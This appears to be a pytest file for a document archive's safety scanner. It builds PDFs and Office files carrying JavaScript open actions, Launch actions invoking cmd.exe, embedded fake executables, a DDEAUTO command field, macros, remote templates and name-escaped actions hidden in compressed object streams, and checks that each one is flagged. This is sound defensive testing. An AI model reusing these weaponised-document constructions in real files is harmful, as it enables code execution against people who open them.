"""四性检测 安全性 (issue 12 item 7): active content in PDF and Office files is found and named
— JavaScript anywhere, launch actions, embedded files, RichMedia, forms that send or load data,
XFA, macros, ActiveX, OLE objects, remote templates, executables — and a material carrying it
fails the export's 4-2 check and `zicha verify`; ordinary documents pass."""

from __future__ import annotations

import os
import shutil
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from unittest import mock

import pymupdf
import pytest

from desktop.core.materials import safety
from tests.conftest import ZichaCli, build_docx, build_pdf, build_xlsx

PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 56


def _pdf(path: Path, setup: Callable[[pymupdf.Document, pymupdf.Page], None]) -> Path:
    """A one-page PDF changed by `setup`, saved compressed with object streams (so no action
    is visible in the raw bytes)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with pymupdf.open() as doc:
        page = doc.new_page()
        page.insert_text((72, 72), f"文明交通劝导行动方案 {path.stem}", fontname="china-s")
        setup(doc, page)
        doc.save(path, garbage=3, deflate=True, use_objstms=1)
    return path


def _action(doc: pymupdf.Document, body: str) -> int:
    xref = doc.get_new_xref()
    doc.update_object(xref, body)
    return xref


def hostile_pdf(path: Path) -> Path:
    """The PDF of the issue: JavaScript run on opening, a Launch action, an embedded x.exe."""
    def setup(doc: pymupdf.Document, page: pymupdf.Page) -> None:
        js = _action(doc, "<</Type/Action/S/JavaScript/JS(this.exportDataObject\\({cName: "
                          "'x.exe', nLaunch: 2}\\))>>")
        doc.xref_set_key(doc.pdf_catalog(), "OpenAction", f"{js} 0 R")
        page.insert_link({"kind": pymupdf.LINK_LAUNCH, "from": pymupdf.Rect(72, 100, 300, 120),
                          "file": "x.exe"})
        doc.embfile_add("x.exe", PE + b"\x00" * 200, filename="x.exe")
    return _pdf(path, setup)


def _zip(path: Path, parts: dict[str, bytes | str]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def _office(path: Path, builder: Callable[[Path], Path], parts: dict[str, bytes | str],
            types: str = "", rels: dict[str, str] | None = None) -> Path:
    """A real DOCX/XLSX from `builder`, with `parts` added, `types` added to
    [Content_Types].xml and Relationship elements added to the named .rels parts."""
    builder(path.with_name("plain" + path.suffix))
    with zipfile.ZipFile(path.with_name("plain" + path.suffix)) as z:
        members = {n: z.read(n) for n in z.namelist()}
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"</Types>", types.encode() + b"</Types>")
    for name, rel in (rels or {}).items():
        old = members.get(name, b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns='
                                b'"http://schemas.openxmlformats.org/package/2006/relationships">'
                                b'</Relationships>')
        members[name] = old.replace(b"</Relationships>", rel.encode() + b"</Relationships>")
    members.update({k: v.encode() if isinstance(v, str) else v for k, v in parts.items()})
    return _zip(path, members)  # type: ignore[arg-type]


REL = ('<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
       'relationships/{type}" Target="{target}"{mode}/>')


def _rel(n: int, rtype: str, target: str, external: bool = False) -> str:
    return REL.format(n=n, type=rtype, target=target,
                      mode=' TargetMode="External"' if external else "")


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


# -- PDF -----------------------------------------------------------------------------------------


def test_the_issues_pdf_names_each_piece_of_active_content(tmp_path: Path) -> None:
    path = hostile_pdf(tmp_path / "活动方案.pdf")
    assert b"JavaScript" not in path.read_bytes()  # compressed into an object stream
    found = safety.scan(path)
    assert "打开时运行 JavaScript" in found
    assert "点击时启动外部程序 x.exe（Launch 动作）" in found
    assert "嵌入了文件 x.exe，是Windows 可执行程序（PE）" in found
    assert len(found) == 3, found


def _open_js(doc: pymupdf.Document, page: pymupdf.Page) -> None:
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", "<</S/JavaScript/JS(app.alert\\(1\\))>>")


def _name_tree_js(doc: pymupdf.Document, page: pymupdf.Page) -> None:
    js = _action(doc, "<</S/JavaScript/JS(app.alert\\(2\\))>>")
    doc.xref_set_key(doc.pdf_catalog(), "Names", f"<</JavaScript<</Names[(init) {js} 0 R]>>>>")


def _page_aa_js(doc: pymupdf.Document, page: pymupdf.Page) -> None:
    doc.xref_set_key(page.xref, "AA", "<</O<</S/JavaScript/JS(app.alert\\(3\\))>>>>")


def _javascript_link(doc: pymupdf.Document, page: pymupdf.Page) -> None:
    page.insert_link({"kind": pymupdf.LINK_URI, "uri": "javascript:app.alert(4)",
                      "from": pymupdf.Rect(72, 100, 200, 120)})


def _launch(doc: pymupdf.Document, page: pymupdf.Page) -> None:
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction",
                     "<</S/Launch/Win<</F(cmd.exe)/P(/c calc.exe)>>>>")


def _embedded(doc: pymupdf.Document, page: pymupdf.Page) -> None:
    doc.embfile_add("台账.xlsx", b"PK\x03\x04 not really", filename="台账.xlsx")


def _attached_elf(doc: pymupdf.Document, page: pymupdf.Page) -> None:
    page.add_file_annot((100, 100), ELF, "工具.bin")


def _attached_macho(doc: pymupdf.Document, page: pymupdf.Page) -> None:
    page.add_file_annot((100, 100), MACHO, "工具")


def _richmedia(doc: pymupdf.Document, page: pymupdf.Page) -> None:
    annot = _action(doc, "<</Type/Annot/Subtype/RichMedia/Rect[0 0 90 90]/RichMediaContent<<>>>>")
    doc.xref_set_key(page.xref, "Annots", f"[{annot} 0 R]")


def _submit(doc: pymupdf.Document, page: pymupdf.Page) -> None:
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction",
                     "<</S/SubmitForm/F<</FS/URL/F(http://example.invalid/c)>>>>")


def _import_data(doc: pymupdf.Document, page: pymupdf.Page) -> None:
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", "<</S/ImportData/F(data.fdf)>>")


def _xfa(doc: pymupdf.Document, page: pymupdf.Page) -> None:
    doc.xref_set_key(doc.pdf_catalog(), "AcroForm", "<</Fields[]/XFA(<xdp:xdp/>)>>")


PDF_CASES = {
    "open-js": (_open_js, "打开时运行 JavaScript"),
    "name-tree-js": (_name_tree_js, "打开时加载文档级 JavaScript"),
    "page-aa-js": (_page_aa_js, "在页面或表单事件中运行 JavaScript（附加动作 AA）"),
    "javascript-link": (_javascript_link, "点击时运行 JavaScript（javascript: 链接）"),
    "launch": (_launch, "打开时启动外部程序 cmd.exe（Launch 动作）"),
    "embedded-file": (_embedded, "嵌入了文件 台账.xlsx"),
    "attached-elf": (_attached_elf,
                     "文件附件注释中嵌入了文件 工具.bin，是Linux 可执行程序（ELF）"),
    "attached-macho": (_attached_macho,
                       "文件附件注释中嵌入了文件 工具，是macOS 可执行程序（Mach-O）"),
    "richmedia": (_richmedia, "富媒体内容（RichMedia，可含 Flash 或脚本）"),
    "submitform": (_submit, "把表单数据提交到外部地址（SubmitForm）"),
    "importdata": (_import_data, "从外部文件导入数据（ImportData）"),
    "xfa": (_xfa, "XFA 动态表单（可含脚本）"),
}


@pytest.mark.parametrize("case", PDF_CASES)
def test_each_kind_of_active_pdf_content_is_named(tmp_path: Path, case: str) -> None:
    setup, expected = PDF_CASES[case]
    assert safety.scan(_pdf(tmp_path / "材料.pdf", setup)) == [expected]


def test_a_form_field_script_is_javascript(tmp_path: Path) -> None:
    def setup(doc: pymupdf.Document, page: pymupdf.Page) -> None:
        widget = pymupdf.Widget()
        widget.field_type, widget.field_name = pymupdf.PDF_WIDGET_TYPE_TEXT, "金额"
        widget.rect = pymupdf.Rect(72, 100, 200, 120)
        widget.script_change = "app.launchURL('http://example.invalid');"
        page.add_widget(widget)
    assert safety.scan(_pdf(tmp_path / "表单.pdf", setup)) == [
        "在页面或表单事件中运行 JavaScript（附加动作 AA）"]


def _raw_pdf(objects: list[bytes], objstm: dict[int, bytes]) -> bytes:
    """A PDF written by hand: plain objects, and `objstm` packed into a compressed object
    stream, with a cross-reference stream so a reader finds them."""
    out = bytearray(b"%PDF-1.7\n")
    offsets: dict[int, int] = {}
    for n, body in enumerate(objects, 1):
        offsets[n] = len(out)
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    stm = max(len(objects), *objstm) + 1
    pos, header_parts, bodies = 0, [], b""
    for num, body in objstm.items():
        header_parts.append(b"%d %d" % (num, pos))
        bodies += body + b" "
        pos += len(body) + 1
    header = b" ".join(header_parts) + b" "
    data = zlib.compress(header + bodies)
    offsets[stm] = len(out)
    out += (b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>\nstream\n"
            % (stm, len(objstm), len(header), len(data))) + data + b"\nendstream\nendobj\n"
    xref = stm + 1
    offsets[xref] = len(out)
    size = xref + 1
    rows = [b"\x00\x00\x00\x00\xff\xff"]
    index_in_stm = {num: i for i, num in enumerate(objstm)}
    for num in range(1, size):
        if num in index_in_stm:
            rows.append(b"\x02" + stm.to_bytes(4, "big") + bytes([index_in_stm[num]]))
        else:
            rows.append(b"\x01" + offsets[num].to_bytes(4, "big") + b"\x00")
    table = zlib.compress(b"".join(rows))
    out += (b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>"
            b"\nstream\n" % (xref, size, len(table))) + table + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref]
    return bytes(out)


def test_escaped_names_inside_a_compressed_object_stream_are_seen(tmp_path: Path) -> None:
    """/J#61va#53cript and /L#61unch in an object stream: the raw bytes say nothing, the
    objects say JavaScript and Launch; an object no page refers to is read too."""
    data = _raw_pdf(
        [b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
         b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
         b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</C 6 0 R>>>>",
         b"null"],
        {5: b"<</S/J#61va#53cript/J#53 (app.alert\\(1\\))>>",
         6: b"<</S/L#61unch/F(evil.exe)>>",
         7: b"<</Type/Action/S/JavaScript/JS(orphan)>>"})
    assert b"JavaScript" not in data and b"Launch" not in data
    path = tmp_path / "手写.pdf"
    path.write_bytes(data)
    with pymupdf.open(path) as doc:
        assert doc.page_count == 1 and not doc.is_repaired
    found = safety.scan(path)
    assert found == ["打开时运行 JavaScript",
                     "页面或表单事件中启动外部程序 evil.exe（Launch 动作）",
                     "含 JavaScript 动作"], found


def test_ordinary_pdfs_have_no_findings(tmp_path: Path) -> None:
    plain = build_pdf(tmp_path / "方案.pdf", "文明交通劝导行动方案", pages=3)

    def linked(doc: pymupdf.Document, page: pymupdf.Page) -> None:
        page.insert_link({"kind": pymupdf.LINK_URI, "uri": "https://www.wenming.cn/",
                          "from": pymupdf.Rect(72, 100, 200, 120)})
        doc.set_toc([[1, "一、工作目标", 1]])
        doc.set_metadata({"title": "文明交通劝导行动方案", "author": "市文明办"})
    assert safety.scan(plain) == []
    assert safety.scan(_pdf(tmp_path / "链接.pdf", linked)) == []


def test_names_from_the_file_are_printed_safely(tmp_path: Path) -> None:
    def setup(doc: pymupdf.Document, page: pymupdf.Page) -> None:
        doc.embfile_add("x", b"data", filename="报告\u202eexe.pdf\n" + "长" * 500)
    [found] = safety.scan(_pdf(tmp_path / "材料.pdf", setup))
    assert "\u202e" not in found and "\n" not in found and len(found) < 90, found


# -- Office --------------------------------------------------------------------------------------


def test_a_docx_macro_is_still_caught(tmp_path: Path) -> None:
    path = _office(tmp_path / "通知.docx", build_docx, {"word/vbaProject.bin": OLE},
                   '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
                   {"word/_rels/document.xml.rels": _rel(90, "vbaProject", "vbaProject.bin")})
    assert safety.scan(path) == ["包含宏（VBA）"]


def test_an_xlsx_macro_is_caught(tmp_path: Path) -> None:
    path = _office(tmp_path / "台账.xlsx", build_xlsx, {"xl/vbaProject.bin": OLE})
    assert safety.scan(path) == ["包含宏（VBA）"]


def test_activex_controls_are_caught(tmp_path: Path) -> None:
    path = _office(tmp_path / "通知.docx", build_docx,
                   {"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='x'/>",
                    "word/activeX/activeX1.bin": OLE},
                   '<Override PartName="/word/activeX/activeX1.xml" '
                   'ContentType="application/vnd.ms-office.activeX+xml"/>',
                   {"word/_rels/document.xml.rels": _rel(91, "control", "activeX/activeX1.xml")})
    assert safety.scan(path) == ["包含 ActiveX 控件"]


def test_ole_objects_and_embedded_programs_are_caught(tmp_path: Path) -> None:
    path = _office(tmp_path / "通知.docx", build_docx,
                   {"word/embeddings/oleObject1.bin": OLE, "word/embeddings/setup.exe": PE,
                    "word/media/image9.png": ELF},
                   rels={"word/_rels/document.xml.rels":
                         _rel(92, "oleObject", "embeddings/oleObject1.bin")
                         + _rel(93, "package", "embeddings/setup.exe")})
    found = safety.scan(path)
    assert "嵌入了OLE 对象 oleObject1.bin" in found
    assert "包含可执行文件 setup.exe，是Windows 可执行程序（PE）" in found
    assert "包含可执行文件 image9.png，是Linux 可执行程序（ELF）" in found
    assert len(found) == 3, found


def test_external_targets_that_load_when_opened_are_caught(tmp_path: Path) -> None:
    path = _office(tmp_path / "通知.docx", build_docx, {}, rels={
        "word/_rels/settings.xml.rels":
            _rel(1, "attachedTemplate", "http://example.invalid/t.dotm", external=True),
        "word/_rels/document.xml.rels":
            _rel(94, "oleObject", "\\\\example.invalid\\share\\x.xls", external=True)})
    found = safety.scan(path)
    assert sorted(found) == ["打开时加载远程模板 http://example.invalid/t.dotm",
                             "链接外部 OLE 对象 \\\\example.invalid\\share\\x.xls"], found


def test_a_pptx_with_an_ole_object_is_caught(tmp_path: Path) -> None:
    path = _zip(tmp_path / "汇报.pptx", {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats'
                               '.org/package/2006/content-types"><Override PartName="/ppt/'
                               'presentation.xml" ContentType="application/vnd.openxmlformats-'
                               'officedocument.presentationml.presentation.main+xml"/></Types>',
        "ppt/presentation.xml": "<p:presentation xmlns:p='p'/>",
        "ppt/slides/_rels/slide1.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats'
                                            '.org/package/2006/relationships">'
                                            + _rel(2, "oleObject", "../embeddings/oleObject1.bin")
                                            + "</Relationships>",
        "ppt/embeddings/oleObject1.bin": OLE})
    assert safety.scan(path) == ["嵌入了OLE 对象 oleObject1.bin"]


def _chart_docx(path: Path, workbook: bytes) -> Path:
    return _office(path, build_docx, {
        "word/charts/chart1.xml": "<c:chartSpace xmlns:c='c'/>",
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook}, rels={
        "word/_rels/document.xml.rels": _rel(95, "chart", "charts/chart1.xml"),
        "word/charts/_rels/chart1.xml.rels":
            _rel(1, "package", "../embeddings/Microsoft_Excel_Worksheet.xlsx")})


def test_a_chart_workbook_is_scanned_not_flagged(tmp_path: Path) -> None:
    data = build_xlsx(tmp_path / "数据.xlsx").read_bytes()
    assert safety.scan(_chart_docx(tmp_path / "图表.docx", data)) == []
    macro = _office(tmp_path / "宏.xlsx", build_xlsx, {"xl/vbaProject.bin": OLE}).read_bytes()
    assert safety.scan(_chart_docx(tmp_path / "图表宏.docx", macro)) == [
        "嵌入的 Microsoft_Excel_Worksheet.xlsx 中：包含宏（VBA）"]


def test_ordinary_office_files_have_no_findings(tmp_path: Path) -> None:
    assert safety.scan(build_docx(tmp_path / "通知.docx")) == []
    assert safety.scan(build_xlsx(tmp_path / "台账.xlsx")) == []
    local = _office(tmp_path / "模板.docx", build_docx, {}, rels={
        "word/_rels/settings.xml.rels": _rel(1, "attachedTemplate",
                                             "file:///C:\\Users\\a\\Templates\\Normal.dotm",
                                             external=True)})
    assert safety.scan(local) == []


def test_executables_are_named_by_magic_whatever_their_name(tmp_path: Path) -> None:
    for data, what in ((PE, "Windows"), (ELF, "Linux"), (MACHO, "macOS"), (b"#!/bin/sh\n", "#!")):
        path = tmp_path / "照片.jpg"
        path.write_bytes(data)
        [found] = safety.scan(path)
        assert what in found
    zipped = _zip(tmp_path / "资料.zip", {"说明.txt": "你好", "bin/run": ELF})
    assert safety.scan(zipped) == ["包含可执行文件 bin/run，是Linux 可执行程序（ELF）"]


def test_damaged_files_are_no_finding(tmp_path: Path) -> None:
    broken = tmp_path / "坏.pdf"
    broken.write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 4)
    fake_zip = tmp_path / "坏.docx"
    fake_zip.write_bytes(b"PK\x03\x04" + b"\x00" * 100)
    assert safety.scan(broken) == [] and safety.scan(fake_zip) == []
    assert safety.scan(tmp_path / "不存在.pdf") == []


def test_deep_nesting_does_not_overflow() -> None:
    assert safety.parse_object("[" * 100_000 + "]" * 100_000) is not None
    assert safety.parse_object("<</A " * 50_000 + "1" + ">>" * 50_000) is not None


# -- the export check and zicha verify ---------------------------------------------------------


def _reviewed(root: Path, home: Path, files: dict[str, tuple[str, Path]]) -> None:
    """An archive whose `files` (title -> (item, path)) went through 初审/复审/终审."""
    from desktop.core.archive.archive import Archive
    from desktop.core.archive.items import add_item
    from desktop.core.materials.importer import ImportOptions, import_paths
    from desktop.core.materials.service import update_material
    from desktop.core.review import decisions, keys, roster

    with mock.patch.dict(os.environ, {"ZICHA_HOME": str(home), "ZICHA_USER": "经办人甲"}), \
            Archive.create(root) as archive:
        for code in sorted({code for code, _ in files.values()}):
            add_item(archive, code, f"测评内容 {code}")
        people = (("经办人甲", "clerk"), ("初审乙", "first"), ("复审丙", "second"),
                  ("终审丁", "final"))
        for name, role in people:
            roster.add_person(archive, name, "市文明办", [role], keys.new_key(name, "pass-12345"))
        ids = []
        for title, (code, path) in files.items():
            [row] = import_paths(archive, [path], ImportOptions(codes=[code]))
            update_material(archive, row.id, {"title": title, "department": "市文明办"})
            ids.append(row.id)
        decisions.submit(archive, ids, "经办人甲")
        for name, _ in people[1:]:
            key = keys.load_private(name, "pass-12345")
            for material_id in ids:
                decisions.decide(archive, material_id, name, "approve", "同意", key)


@pytest.fixture(scope="module")
def _hostile_archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    src = base / "src"
    files = {
        "活动方案": ("01.01", hostile_pdf(src / "活动方案.pdf")),
        "宏通知": ("01.01", _office(src / "宏通知.docx", build_docx, {"word/vbaProject.bin": OLE})),
        "普通方案": ("01.01", build_pdf(src / "普通方案.pdf", "普通的工作方案")),
    }
    _reviewed(base / "档案", base / "home", files)
    return base / "档案"


def test_export_and_verify_flag_the_hostile_materials(_hostile_archive: Path, tmp_path: Path,
                                                      zicha_cli: ZichaCli) -> None:
    root = shutil.copytree(_hostile_archive, tmp_path / "档案", symlinks=True)
    out = tmp_path / "导出.zip"
    result = zicha_cli.run("export", out, "--formats", "pdf,jpeg,mp4,docx,xlsx",
                           "--archive", root)
    assert result.returncode == 1 and "未通过四性检测" in result.stderr, str(result)
    assert "001_活动方案.pdf：打开时运行 JavaScript" in result.stdout, str(result)
    checks = {c["code"]: c for c in zicha_cli.run("verify", out, "--json").json()["checks"]}
    problems = checks["4-2"]["problems"]
    assert not checks["4-2"]["ok"]
    pdf = [p for p in problems if "活动方案.pdf" in p]
    assert [p.split("：", 1)[1] for p in pdf] == [
        "打开时运行 JavaScript", "嵌入了文件 x.exe，是Windows 可执行程序（PE）",
        "点击时启动外部程序 x.exe（Launch 动作）"], problems
    assert any("宏通知.docx：包含宏（VBA）" in p for p in problems), problems
    assert not any("普通方案" in p for p in problems), problems
    assert all(c["ok"] for code, c in checks.items() if code != "4-2"), checks
    with zipfile.ZipFile(out) as z:  # the export holds the material as signed, byte for byte
        assert any(n.endswith("活动方案.pdf") for n in z.namelist())


def test_a_program_beside_the_payload_is_caught(_hostile_archive: Path, tmp_path: Path,
                                                zicha_cli: ZichaCli) -> None:
    """Executables anywhere in the bag: also next to data/, where no manifest lists them."""
    root = shutil.copytree(_hostile_archive, tmp_path / "档案", symlinks=True)
    out = tmp_path / "导出"
    zicha_cli.run("export", out, "--folder", "--archive", root)
    (out / "autorun.inf.exe").write_bytes(PE)
    (out / "zicha" / "helper").write_bytes(ELF)
    checks = {c["code"]: c for c in zicha_cli.run("verify", out, "--json").json()["checks"]}
    problems = checks["4-2"]["problems"]
    assert "autorun.inf.exe：可执行文件或脚本，不应出现在导出包中" in problems, problems
    assert "zicha/helper：可执行文件或脚本，不应出现在导出包中" in problems, problems


def test_import_stores_the_file_but_warns_and_logs_it(zicha_cli: ZichaCli, cli_archive: Path,
                                                      tmp_path: Path) -> None:
    import sqlite3

    hostile = hostile_pdf(tmp_path / "src" / "活动方案.pdf")
    plain = build_pdf(tmp_path / "src" / "普通方案.pdf")
    rows = zicha_cli.ok_json("import", hostile, plain, "--item", "01", "--archive", cli_archive)
    assert [r["status"] for r in rows] == ["stored", "stored"]
    assert rows[0]["reason"] == (
        "注意：含活动内容（打开时运行 JavaScript；嵌入了文件 x.exe，是Windows 可执行程序（PE）；"
        "点击时启动外部程序 x.exe（Launch 动作）），导出时不能通过四性检测（安全性）；"
        "请换用不含脚本、附件和宏的版本"), rows[0]
    assert rows[1]["reason"] == ""
    conn = sqlite3.connect((cli_archive / "zicha.db").as_uri() + "?mode=ro", uri=True)
    try:
        payloads = [p for (p,) in conn.execute(
            "SELECT detail FROM audit_entry WHERE action = 'material.import' ORDER BY seq")]
    finally:
        conn.close()
    assert "active_content" in payloads[0] and "JavaScript" in payloads[0]
    assert "active_content" not in payloads[1]


def test_a_dde_field_is_caught(tmp_path: Path) -> None:
    build_docx(tmp_path / "plain.docx")
    with zipfile.ZipFile(tmp_path / "plain.docx") as z:
        body = z.read("word/document.xml")
    field = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
             b'xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '
             b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    path = _office(tmp_path / "通知.docx", build_docx,
                   {"word/document.xml": body.replace(b"</w:body>", field + b"</w:body>")})
    assert safety.scan(path) == ["含 DDE 字段（打开时可运行外部命令）"]
    words = body.replace(b"</w:body>", b"<w:p><w:r><w:t>DDE AUTO DDEAUTO</w:t></w:r></w:p>"
                                       b"</w:body>")
    assert safety.scan(_office(tmp_path / "正文.docx", build_docx,
                               {"word/document.xml": words})) == []


def test_a_file_that_opens_but_defeats_the_scan_fails_it(tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    path = hostile_pdf(tmp_path / "活动方案.pdf")

    def defeated(text: str) -> None:
        raise MemoryError

    monkeypatch.setattr(safety, "parse_object", defeated)
    assert safety.scan(path) == ["活动内容未能检查完（MemoryError），不能确认安全"]
